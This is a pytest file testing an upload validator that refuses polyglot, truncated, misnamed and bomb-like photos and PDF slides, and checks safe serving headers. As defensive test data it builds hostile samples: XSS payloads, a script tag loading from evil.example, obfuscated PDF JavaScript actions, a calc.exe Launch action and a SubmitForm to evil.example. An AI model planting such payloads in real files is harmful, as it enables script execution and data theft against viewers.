"""Uploads that are also pages or archives, cut short, or misnamed are refused at the talk form."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from sqlalchemy import select

from prisec.models import Speaker, Talk
from tests.test_dashboard_uploads import _post
from tests.test_speakerform import new_link, speaker_post
from tests.test_talk_form import error_of

SCRIPT = b"<html><body><script>alert(document.domain)</script></body></html>"


def noisy_image(fmt: str, size=(320, 240), **save) -> bytes:
    """A photo-like image: random pixels, so the compressed data looks like a real photo's."""
    pixels = random.Random(size[0] * size[1]).randbytes(size[0] * size[1] * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", size, pixels).save(out, fmt, **save)
    return out.getvalue()


def minimal_pdf(*extra: bytes) -> bytes:
    """A small valid PDF of one page with a blue box, with its cross-reference table."""
    box = b"0 0 1 rg 10 10 180 80 re f"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(box), box),
        *extra,
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def stream(content: bytes) -> bytes:
    """A PDF stream object holding `content` as it is, uncompressed."""
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", SCRIPT)
    return out.getvalue()


def pillow_pdf() -> bytes:
    out = io.BytesIO()
    Image.frombytes("RGB", (200, 150), random.Random(3).randbytes(200 * 150 * 3)).save(out, "PDF")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` one-bit pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


@pytest.fixture
def series(create_series):
    return create_series(slug="seminar")


def refused_photo(client, content: bytes, filename: str) -> str:
    """Post the photo with a new talk; the message beside the photo field (nothing saved)."""
    response = _post(client, client.series, **{"speakers-0-photo": (content, filename)})
    assert response.status_code == 422
    return error_of(response.get_data(as_text=True), "speakers-0-photo")


def refused_slides(client, content: bytes, filename: str = "slides.pdf") -> str:
    """Post the slides with a new talk; the message beside the slides field."""
    response = _post(client, client.series, slides_file=(content, filename))
    assert response.status_code == 422
    return error_of(response.get_data(as_text=True), "slides_file")


@pytest.fixture
def poster(organizer_client, series, db):
    """The logged-in organizer's client, knowing the series; checks that no refusal saved."""
    organizer_client.series = series
    yield organizer_client
    # Nothing a refusal answered may have reached the database.
    if not getattr(organizer_client, "saved", False):
        assert db.session.scalar(select(Talk)) is None


def camera_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Canon"  # Make
    exif[0x0131] = "Adobe Photoshop 25.0 (Macintosh)"  # Software
    return exif.tobytes()


def png_with_text(text: bytes) -> bytes:
    info = PngInfo()
    info.add_text("Comment", text.decode())
    return noisy_image("PNG", pnginfo=info)


# ---------------------------------------------------------------- polyglots


@pytest.mark.parametrize(
    ("content", "filename"),
    [
        (png_with_text(SCRIPT), "text-chunk.png"),
        (noisy_image("JPEG", comment=SCRIPT), "comment.jpg"),
        (noisy_image("JPEG") + SCRIPT, "appended.jpg"),
        (noisy_image("PNG") + b"<!DOCTYPE html><p>hi</p>", "doctype.png"),
        (noisy_image("WEBP") + b'<svg/onload="alert(1)">', "svg.webp"),
        (noisy_image("JPEG") + b"<IMG SRC=x OnError=alert(1)>", "upper.jpg"),
    ],
)
def test_an_image_that_is_also_a_page_is_refused(poster, content, filename):
    assert "also holds web-page code" in refused_photo(poster, content, filename)


def test_an_image_that_is_also_a_zip_is_refused(poster):
    message = refused_photo(poster, noisy_image("JPEG") + zip_archive(), "photo.jpg")
    assert "ZIP archive" in message


@pytest.mark.parametrize(
    "content",
    [
        minimal_pdf() + zip_archive(),
        # Only the entry, without the archive's directory at the end.
        minimal_pdf(stream(zip_archive()[:60])),
        # Only the directory's end record, a ZIP of no files.
        minimal_pdf(stream(b"PK\x05\x06" + b"\x00" * 18)),
    ],
    ids=["appended", "local-header-inside", "end-record-inside"],
)
def test_a_pdf_that_is_also_a_zip_is_refused(poster, content):
    assert "ZIP archive" in refused_slides(poster, content)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (minimal_pdf(stream(SCRIPT)), "also holds web-page code"),
        (minimal_pdf(stream(b"<HTML><Body>hello</Body></HTML>")), "also holds web-page code"),
        (
            minimal_pdf() + b"<script src=//evil.example/x.js></script>\n",
            "also holds web-page code",
        ),
        # A page first, with the PDF header tucked in a comment: not a PDF at all.
        (b"<html><!--" + minimal_pdf() + b"--></html>", "must be a PDF file"),
    ],
    ids=["script-stream", "html-uppercase", "appended-script", "html-first"],
)
def test_a_pdf_that_is_also_a_page_is_refused(poster, content, message):
    assert message in refused_slides(poster, content)


# ---------------------------------------------------------------- truncated files


@pytest.mark.parametrize(("fmt", "filename"), [("JPEG", "half.jpg"), ("PNG", "half.png")])
def test_an_image_cut_in_half_is_refused(poster, fmt, filename):
    whole = noisy_image(fmt)
    assert "cut short" in refused_photo(poster, whole[: len(whole) // 2], filename)


def test_a_webp_cut_in_half_is_refused(poster):
    whole = noisy_image("WEBP")
    assert "cut short" in refused_photo(poster, whole[: len(whole) // 2], "half.webp")


@pytest.mark.parametrize(
    "content",
    [pillow_pdf()[: len(pillow_pdf()) // 2], minimal_pdf().replace(b"%%EOF", b"")],
    ids=["cut-in-half", "no-eof-marker"],
)
def test_a_pdf_without_its_end_is_refused(poster, content):
    assert "cut short" in refused_slides(poster, content)


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("content", "filename", "named", "actual"),
    [
        (noisy_image("JPEG"), "photo.png", ".png", "JPEG"),
        (noisy_image("PNG"), "photo.JPG", ".jpg", "PNG"),
        (noisy_image("WEBP"), "photo.jpeg", ".jpeg", "WebP"),
        (noisy_image("JPEG"), "photo.html", ".html", "JPEG"),
    ],
)
def test_a_photo_named_as_another_type_is_refused(poster, content, filename, named, actual):
    message = refused_photo(poster, content, filename)
    assert named in message
    assert actual in message


@pytest.mark.parametrize("filename", ["slides.docx", "slides.PPTX", "slides.pdf.html"])
def test_slides_named_as_another_type_are_refused(poster, filename):
    message = refused_slides(poster, minimal_pdf(), filename)
    assert "." + filename.rsplit(".", 1)[1].lower() in message
    assert "PDF" in message


# ---------------------------------------------------------------- ordinary files still pass


ORDINARY_PHOTOS = [
    (noisy_image("JPEG", (1200, 900), quality=92, exif=camera_exif()), "IMG_0042.JPG"),
    (noisy_image("JPEG", progressive=True, comment=b"Taken at the workshop"), "ada.jpeg"),
    (
        noisy_image(
            "JPEG",
            xmp=b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/>'
            b"</x:xmpmeta><?xpacket end='w'?>",
        ),
        "with-xmp.jfif",
    ),
    (png_with_text(b"Made with GIMP"), "portrait.Png"),
    (noisy_image("WEBP"), "portrait.webp"),
    (noisy_image("PNG"), "portrait"),  # no extension: the content decides
    (noisy_image("JPEG"), "Dr. Ada Lovelace"),  # a dot, but no extension after it
    (noisy_image("JPEG"), "C:\\Users\\ada\\me.jpg"),  # the full path some browsers send
]


@pytest.mark.parametrize(
    ("content", "filename"), ORDINARY_PHOTOS, ids=[f for _, f in ORDINARY_PHOTOS]
)
def test_ordinary_photos_are_accepted(poster, db, content, filename):
    response = _post(poster, poster.series, **{"speakers-0-photo": (content, filename)})
    assert response.status_code == 303, error_of(
        response.get_data(as_text=True), "speakers-0-photo"
    )
    poster.saved = True
    assert db.session.scalar(select(Speaker)).photo


ORDINARY_PDFS = [
    (minimal_pdf(), "talk.pdf"),
    (pillow_pdf(), "Talk Slides.PDF"),
    (minimal_pdf() + b"\r\n\x00\x00", "padded.pdf"),
    # Megabytes of compressed-looking bytes, as in any real deck, match nothing by chance.
    (minimal_pdf(stream(random.Random(11).randbytes(3 * 1024 * 1024))), "big.pdf"),
    (minimal_pdf(), "slides"),
]


@pytest.mark.parametrize(("content", "filename"), ORDINARY_PDFS, ids=[f for _, f in ORDINARY_PDFS])
def test_ordinary_pdfs_are_accepted(poster, db, client, content, filename):
    response = _post(poster, poster.series, slides_file=(content, filename))
    assert response.status_code == 303, error_of(response.get_data(as_text=True), "slides_file")
    poster.saved = True
    talk = db.session.scalar(select(Talk))
    with client.get(talk.slides_url) as served:
        assert served.data == content


# ---------------------------------------------------------------- bombs and serving


def test_a_header_claiming_hundreds_of_millions_of_pixels_is_refused(poster):
    # Pillow itself stops at twice its limit while opening; the smaller bomb is tested with
    # the other bad photos.
    assert "far too many pixels" in refused_photo(poster, png_claiming(20_000, 20_000), "b.png")


def test_uploads_are_served_so_that_a_browser_never_runs_them(poster, client, db):
    response = _post(
        poster,
        poster.series,
        **{"speakers-0-photo": (noisy_image("PNG"), "me.png")},
        slides_file=(minimal_pdf(), "talk.pdf"),
    )
    assert response.status_code == 303
    poster.saved = True
    talk = db.session.scalar(select(Talk))
    photo = f"/uploads/photos/{db.session.scalar(select(Speaker)).photo}"
    for url, kind, name in [
        (photo, "image/png", "photo.png"),
        (talk.slides_url, "application/pdf", "slides.pdf"),
    ]:
        with client.get(url) as served:
            assert served.status_code == 200
            assert served.headers["Content-Type"] == kind
            assert served.headers["X-Content-Type-Options"] == "nosniff"
            # Nothing loads from a served file; a photo also runs sandboxed (a PDF cannot:
            # Chromium's viewer refuses sandboxed PDFs).
            policy = served.headers["Content-Security-Policy"]
            assert policy.startswith("default-src 'none'")
            assert ("sandbox" in policy) == (kind != "application/pdf")
            # Opened at its own address a PDF is saved, never shown (its scripts never run).
            shown = "inline" if kind != "application/pdf" else "attachment"
            assert served.headers["Content-Disposition"] == f'{shown}; filename="{name}"'
    # Inside the talk page's viewer (<object data=...>) the slides show in place.
    with client.get(talk.slides_url, headers={"Sec-Fetch-Dest": "object"}) as embedded:
        assert embedded.headers["Content-Disposition"] == 'inline; filename="slides.pdf"'
        assert "Sec-Fetch-Dest" in embedded.headers["Vary"]
    for destination in ("document", "empty", ""):
        with client.get(talk.slides_url, headers={"Sec-Fetch-Dest": destination}) as opened:
            assert opened.headers["Content-Disposition"].startswith("attachment;")


# ---------------------------------------------------------------- PDF actions


def pdf_with_catalog(catalog: bytes, *objects: bytes) -> bytes:
    """A one-page PDF whose catalog carries `catalog` (say an /OpenAction), objects from 5."""
    box = b"1 0 0 rg 10 10 180 80 re f"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(box), box),
        *objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return out


def object_stream(*dictionaries: bytes) -> bytes:
    """A compressed object stream (PDF 1.5) holding the dictionaries as objects 6, 7, ..."""
    header, body = b"", b""
    for number, dictionary in enumerate(dictionaries, 6):
        header += b"%d %d " % (number, len(body))
        body += dictionary + b"\n"
    packed = zlib.compress(header + body)
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(dictionaries), len(header), len(packed))
        + packed
        + b"\nendstream"
    )


PDF_WITH_ACTIONS = {
    # The finding: an /OpenAction JavaScript action, run by Chromium's viewer on opening.
    "open-action-js": pdf_with_catalog(
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(document.domain\\)) >>"
    ),
    "open-action-object": pdf_with_catalog(
        b"/OpenAction 5 0 R",
        b"<< /Type /Action /S /JavaScript /JS 6 0 R >>",
        stream(b"app.alert(1)"),
    ),
    # Names written with #xx escapes mean the same to a reader.
    "escaped-name": pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "names-tree": pdf_with_catalog(
        b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
    ),
    "launch": pdf_with_catalog(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "page-action": pdf_with_catalog(b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
    "submit-form": pdf_with_catalog(b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
    # Hidden in a compressed object stream, where a byte scan of the file sees nothing.
    "in-object-stream": pdf_with_catalog(
        b"/OpenAction 6 0 R", object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    ),
}


@pytest.mark.parametrize("content", PDF_WITH_ACTIONS.values(), ids=PDF_WITH_ACTIONS.keys())
def test_a_pdf_with_a_script_or_launch_action_is_refused(poster, content):
    message = refused_slides(poster, content)
    assert "action, which could run a script or a program" in message
    assert "Export the slides again as a plain PDF" in message


def test_an_object_stream_the_check_cannot_read_is_refused(poster):
    hidden = object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>").replace(
        b"/FlateDecode", b"/ASCIIHexDecode"
    )
    message = refused_slides(poster, pdf_with_catalog(b"/OpenAction 6 0 R", hidden))
    assert "in a form this site cannot check" in message


@pytest.mark.parametrize("packed", [False, True], ids=["page-text", "page-text-and-object-stream"])
def test_a_pdf_whose_text_merely_mentions_javascript_is_accepted(poster, db, packed):
    # A security talk's page may show "/JavaScript": in a page's (compressed) content stream
    # it is text, not an action; an object stream of harmless dictionaries is fine too.
    text = b"BT /F1 12 Tf 10 50 Td (Why /JavaScript /JS /Launch in PDFs) Tj ET"
    extra = [object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")]
    content = pdf_with_catalog(b"", stream(zlib.compress(text)), *(extra if packed else []))
    response = _post(poster, poster.series, slides_file=(content, "talk.pdf"))
    assert response.status_code == 303, error_of(response.get_data(as_text=True), "slides_file")
    poster.saved = True


# ---------------------------------------------------------------- the speaker's own form


def test_the_speaker_form_refuses_the_same_photos(organizer_client, client, create_talk):
    path = new_link(organizer_client, create_talk(title="", abstract=""))
    for content, filename, message in [
        (noisy_image("JPEG") + SCRIPT, "me.jpg", "also holds web-page code"),
        (noisy_image("JPEG") + zip_archive(), "me.jpg", "ZIP archive"),
        (noisy_image("JPEG"), "me.png", "ends in .png"),
    ]:
        response = speaker_post(client, path, photo=(io.BytesIO(content), filename))
        assert response.status_code == 422
        assert message in response.get_data(as_text=True)
